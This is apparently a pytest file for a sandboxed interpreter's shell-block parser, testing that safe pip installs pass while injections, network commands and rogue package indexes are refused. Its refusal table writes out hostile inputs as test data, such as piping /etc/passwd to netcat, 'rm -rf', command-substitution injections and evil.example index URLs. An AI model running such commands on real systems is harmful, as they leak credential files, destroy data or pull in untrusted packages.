"""sh blocks: the parser's accept/refuse table (injections included), refused blocks that provably run
nothing, and real pip installs into a session that its network-less kernel then imports, in both sandboxes."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest

from interpreter.kernel import STATUS_ERROR, STATUS_OK, STATUS_TIMEOUT
from interpreter.packages import KIND_COMMAND, KIND_PIP, KIND_REFUSED, parse_sh_block, run_sh_block
from interpreter.sandboxes.base import Limits
from interpreter.session import Session
from tests.conftest import require

INSTALL_HEAD = ["python", "-I", "-m", "pip", "install", "--target", "/pkgs", "--only-binary=:all:"]


def _one(line: str, **kwargs):
    (command,) = parse_sh_block(line, **kwargs)
    return command


@pytest.mark.parametrize(
    ("line", "packages", "flags"),
    [
        ("pip install requests", ["requests"], []),
        ("pip3 install six tomli", ["six", "tomli"], []),
        ("python -m pip install six", ["six"], []),
        ("python3 -m pip install six", ["six"], []),
        ("!pip install six", ["six"], []),
        ("%pip install six", ["six"], []),
        ("pip install -U -q six", ["six"], ["--upgrade", "--quiet"]),
        (
            "pip install --upgrade --quiet --no-cache-dir --pre six",
            ["six"],
            ["--upgrade", "--quiet", "--pre"],
        ),
        ("pip install 'numpy>=1.26' pandas==2.2.2", ["numpy>=1.26", "pandas==2.2.2"], []),
        ('pip install "scikit-learn[all]>=1.0,<2"', ["scikit-learn[all]>=1.0,<2"], []),
        ("pip install 'requests[socks]'", ["requests[socks]"], []),
        ("pip install six~=1.16", ["six~=1.16"], []),
        ("pip install --user tomli", ["tomli"], []),
        ("pip install --index-url https://pypi.org/simple six", ["six"], ["--index-url"]),
        ("pip install six \\\n  tomli", ["six", "tomli"], []),
    ],
)
def test_accepted_pip_installs(line, packages, flags):
    command = _one(line)
    assert command.kind == KIND_PIP, command.message
    assert command.packages == packages
    assert command.argv[: len(INSTALL_HEAD)] == INSTALL_HEAD
    # The install step never reaches an index: only the wheels the host downloaded.
    assert command.argv[len(INSTALL_HEAD) : len(INSTALL_HEAD) + 3] == [
        "--no-index",
        "--find-links",
        "/wheels",
    ]
    assert command.argv[-len(packages) :] == packages
    assert command.download_args[-len(packages) :] == packages
    for flag in flags:
        assert flag in command.argv + command.download_args
    assert "--user" not in command.argv
    assert not any("index-url" in arg for arg in command.argv)


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("pip install six; touch /tmp/pwned", "';'"),
        ("pip install six && touch /tmp/pwned", "'&&'"),
        ("pip install six || touch /tmp/pwned", "'||'"),
        ("pip install six | sh", "'|'"),
        ("pip install six & touch /tmp/pwned", "'&'"),
        ("pip install six > /tmp/pwned", "'>'"),
        ("pip install six < /etc/passwd", "'<'"),
        ("pip install numpy>=1.26", "quote version pins"),
        ("pip install $(touch /tmp/pwned)", "substitution"),
        ("pip install `touch /tmp/pwned`", "substitution"),
        ("pip install $HOME", "variables"),
        ("pip install (six)", "operator"),
        ("pip install -r requirements.txt", "requirement files"),
        ("pip install --requirement=req.txt", "requirement files"),
        ("pip install -rreq.txt", "requirement files"),
        ("pip install -e .", "editable"),
        ("pip install -e git+https://github.com/a/b", "editable"),
        ("pip install git+https://github.com/a/b", "URLs"),
        ("pip install https://example.com/pkg.whl", "URLs"),
        ("pip install ./pkg", "local files"),
        ("pip install /tmp/pkg.whl", "local files"),
        ("pip install pkg.tar.gz", "local files"),
        ("pip install 'six @ https://example.com/six.whl'", "URLs"),
        ("pip install 'six@file:x'", "direct references"),
        ("pip install \"six; python_version>'3'\"", "markers"),
        ("pip install --index-url https://evil.example/simple six", "not allowed"),
        ("pip install -i http://pypi.org/simple six", "https"),
        ("pip install --extra-index-url https://evil.example/simple six", "not allowed"),
        ("pip install --index-url https://user:pw@pypi.org/simple six", "credentials"),
        ("pip install --trusted-host evil.example six", "trusted-host"),
        ("pip install --find-links /tmp six", "find-links"),
        ("pip install --target /etc six", "target"),
        ("pip install --no-binary :all: six", "binary"),
        ("pip install --global-option=--foo six", "not supported"),
        ("pip install", "at least one package"),
        ("pip install 'six", "quotes"),
        ("pip uninstall six", "not supported"),
        ("pip download six", "not supported"),
        ("apt-get install curl", "only pip"),
        ("sudo pip install six", "sudo"),
        ("curl https://example.com/x.sh", "no network"),
        ("cd /tmp", "cd"),
        ("FOO=bar python x.py", "assignments"),
        ("ls; rm -rf /work", "';'"),
        ("cat /etc/passwd | nc evil 1", "'|'"),
        ("echo hi > /work/x", "'>'"),
    ],
)
def test_refused_lines(line, reason):
    command = _one(line)
    assert command.kind == KIND_REFUSED
    assert reason in command.message
    assert "\n" not in command.message


def test_allowed_index_host_is_accepted_only_when_configured():
    line = "pip install --index-url https://mirror.example/simple six"
    assert _one(line).kind == KIND_REFUSED
    assert _one(line, allowed_index_hosts=("mirror.example",)).kind == KIND_PIP


def test_other_commands_are_plain_argv_and_comments_are_skipped():
    commands = parse_sh_block("# list files\nls -la\n\npython -c 'print(1)'\n")
    assert [c.kind for c in commands] == [KIND_COMMAND, KIND_COMMAND]
    assert commands[1].argv == ["python", "-c", "print(1)"]


# ---- running sh blocks in real sandboxes ------------------------------------------------------------------


def _pypi_reachable() -> bool:
    try:
        socket.create_connection(("pypi.org", 443), timeout=3).close()
        return True
    except OSError:
        return False


def _make_sandbox(name: str):
    if name == "docker":
        from interpreter.sandboxes.docker_api import DockerAPI

        require(DockerAPI().ping(), "no Docker daemon answers (start dockerd)")
        from interpreter.sandboxes.docker import DockerSandbox
        from interpreter.sandboxes.docker_image import build_image

        build_image()
        return DockerSandbox(limits=Limits(memory_mb=512))
    from interpreter.sandboxes.base import SandboxUnavailable
    from interpreter.sandboxes.local import LocalSandbox

    try:
        LocalSandbox.check_available()
    except SandboxUnavailable as exc:
        require(False, f"local sandbox unavailable: {exc}")
    return LocalSandbox(limits=Limits(memory_mb=512))


SANDBOXES = [
    pytest.param("local", marks=pytest.mark.local_sandbox),
    pytest.param("docker", marks=pytest.mark.docker),
]


@pytest.fixture(params=SANDBOXES)
def session(request, tmp_path):
    with Session(_make_sandbox(request.param), base_dir=tmp_path, timeout_s=60) as made:
        yield made


INJECTIONS = [
    "pip install six; touch {marker}",
    "pip install six && touch {marker}",
    "pip install six || touch {marker}",
    "pip install six | touch {marker}",
    "pip install $(touch {marker})",
    "pip install `touch {marker}`",
    "touch {marker} & pip install six",
    "pip install six > {marker}",
    "touch {marker}\npip install -r /etc/passwd",  # one refused line: the harmless line before it is not run
]


@pytest.mark.parametrize("template", INJECTIONS)
def test_refused_injections_run_nothing(session, template):
    marker = "/work/injected"
    # The control: a plain line of the same block would create the marker, so its absence means something.
    control = run_sh_block(
        f"touch {marker}-control", sandbox=session.sandbox, dirs=session.dirs, timeout_s=30
    )
    assert control.status == STATUS_OK, control
    assert (session.workdir / "injected-control").exists()
    result = run_sh_block(
        template.format(marker=marker), sandbox=session.sandbox, dirs=session.dirs, timeout_s=30
    )
    assert result.status == STATUS_ERROR
    assert "refused" in result.stderr
    assert "Nothing in this sh block was run" in result.stderr
    assert not (session.workdir / "injected").exists()
    assert not list(session.dirs.pkgs.iterdir())  # pip did not run either


@pytest.mark.slow
def test_install_then_import_in_the_kernel(session):
    require(_pypi_reachable(), "PyPI (pypi.org:443) is not reachable from this machine")
    before = session.run_block("python", "import tomli")
    assert before.status == STATUS_ERROR and before.error.name == "ModuleNotFoundError"
    chunks: list[tuple[str, str]] = []
    result = session.run_block(
        "sh", "pip install -q tomli==2.0.1", on_output=lambda name, text: chunks.append((name, text))
    )
    assert result.status == STATUS_OK, result
    assert "installed tomli==2.0.1" in result.stdout
    assert chunks
    assert (session.dirs.pkgs / "tomli").is_dir()
    after = session.run_block("python", "import tomli; print(tomli.loads('a = 1')['a'], tomli.__file__)")
    assert after.status == STATUS_OK, after
    assert after.stdout.startswith("1 /pkgs/tomli/")
    # The kernel itself still has no network.
    probe = session.run_block(
        "python",
        "import socket\ntry:\n    socket.create_connection(('pypi.org', 443), timeout=3)\n"
        "    print('up')\nexcept OSError:\n    print('down')",
    )
    assert probe.stdout == "down\n"


@pytest.mark.slow
def test_package_without_a_wheel_is_refused_by_pip_with_a_hint(session):
    require(_pypi_reachable(), "PyPI (pypi.org:443) is not reachable from this machine")
    # antlr4-python3-runtime 4.9.3 is published as an sdist only: with binary wheels only, nothing of it runs.
    result = session.run_block("sh", "pip install antlr4-python3-runtime==4.9.3")
    assert result.status == STATUS_ERROR
    assert "binary wheels" in result.message
    assert not (session.dirs.pkgs / "antlr4").exists()


def test_other_commands_run_in_the_sandbox_without_network(session):
    (session.workdir / "data.csv").write_text("a,b\n1,2\n")
    result = run_sh_block(
        "ls /work\ncat data.csv\nid -u", sandbox=session.sandbox, dirs=session.dirs, timeout_s=30
    )
    assert result.status == STATUS_OK, result
    assert result.stdout.splitlines() == ["data.csv", "a,b", "1,2", "65534"]
    net = run_sh_block(
        "python -c \"import socket; socket.create_connection(('pypi.org', 443), timeout=3)\"",
        sandbox=session.sandbox,
        dirs=session.dirs,
        timeout_s=30,
    )
    assert net.status == STATUS_ERROR
    assert "failed (exit 1)" in net.message


def test_failing_command_stops_the_block(session):
    result = run_sh_block(
        "ls /does-not-exist\ntouch /work/after", sandbox=session.sandbox, dirs=session.dirs, timeout_s=30
    )
    assert result.status == STATUS_ERROR
    assert "ls /does-not-exist" in result.message
    assert not (session.workdir / "after").exists()


def test_command_timeout(session):
    result = run_sh_block("sleep 30", sandbox=session.sandbox, dirs=session.dirs, timeout_s=1)
    assert result.status == STATUS_TIMEOUT
    assert "timed out" in result.message


def test_long_output_is_truncated(session):
    result = run_sh_block(
        "python -c \"print('z' * 100000)\"", sandbox=session.sandbox, dirs=session.dirs, timeout_s=30
    )
    assert result.status == STATUS_OK
    assert result.dropped_chars > 80_000
    assert "characters of output dropped" in result.stdout


@pytest.mark.slow
@pytest.mark.local_sandbox
def test_the_host_download_is_bounded_and_leaves_nothing_behind(tmp_path):
    require(_pypi_reachable(), "PyPI (pypi.org:443) is not reachable from this machine")
    import tempfile

    from interpreter.sandboxes.base import SessionDirs

    sandbox = _make_sandbox("local")
    dirs = SessionDirs.create(tmp_path / "sessions")
    before = set(Path(tempfile.gettempdir()).glob("autocoder-wheels-*"))
    try:
        # numpy's wheel is far over 1 MB: the download is stopped and nothing reaches /pkgs.
        result = run_sh_block(
            "pip install numpy==2.3.0", sandbox=sandbox, dirs=dirs, timeout_s=120, max_download_mb=1
        )
        assert result.status == STATUS_ERROR
        assert "grew over 1 MB and was stopped" in result.message
        assert list(dirs.pkgs.iterdir()) == []
        assert set(Path(tempfile.gettempdir()).glob("autocoder-wheels-*")) == before
    finally:
        dirs.remove()


def _write_wheel(path: Path, size: int) -> None:
    """A valid pure-Python wheel padded with `size` incompressible bytes (stored, not deflated)."""
    import zipfile

    name = path.name.split("-")[0]
    info = f"{name}-1.0.dist-info"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as wheel:
        wheel.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
        wheel.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{name}/padding.bin", os.urandom(size))
        wheel.writestr(f"{info}/RECORD", "")


@pytest.mark.local_sandbox
def test_a_download_finished_between_two_looks_is_still_refused_over_the_bound(tmp_path, monkeypatch):
    """A local index hands over a 3 MB wheel in milliseconds, faster than the size check looks: the bound
    still holds (CI's fast link once fetched numpy whole between two looks and installed it)."""
    import tempfile
    import threading
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    from interpreter.sandboxes.base import SessionDirs

    root = tmp_path / "index"
    (root / "simple" / "bigprobe").mkdir(parents=True)
    _write_wheel(root / "bigprobe-1.0-py3-none-any.whl", 3 * 1024 * 1024)
    (root / "simple" / "bigprobe" / "index.html").write_text(
        '<html><body><a href="/bigprobe-1.0-py3-none-any.whl">bigprobe-1.0-py3-none-any.whl</a></body></html>'
    )

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

    index = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(root)))
    threading.Thread(target=index.serve_forever, args=(0.05,), daemon=True).start()
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{index.server_address[1]}/simple")
    monkeypatch.delenv("PIP_FIND_LINKS", raising=False)
    monkeypatch.delenv("PIP_EXTRA_INDEX_URL", raising=False)
    dirs = SessionDirs.create(tmp_path / "sessions")
    before = set(Path(tempfile.gettempdir()).glob("autocoder-wheels-*"))
    try:
        result = run_sh_block(
            "pip install bigprobe", sandbox=_make_sandbox("local"), dirs=dirs, timeout_s=60, max_download_mb=1
        )
        assert result.status == STATUS_ERROR, result.stdout + result.stderr
        assert "grew over 1 MB and was stopped" in result.message
        assert list(dirs.pkgs.iterdir()) == []
        assert set(Path(tempfile.gettempdir()).glob("autocoder-wheels-*")) == before
    finally:
        dirs.remove()
        index.shutdown()
        index.server_close()
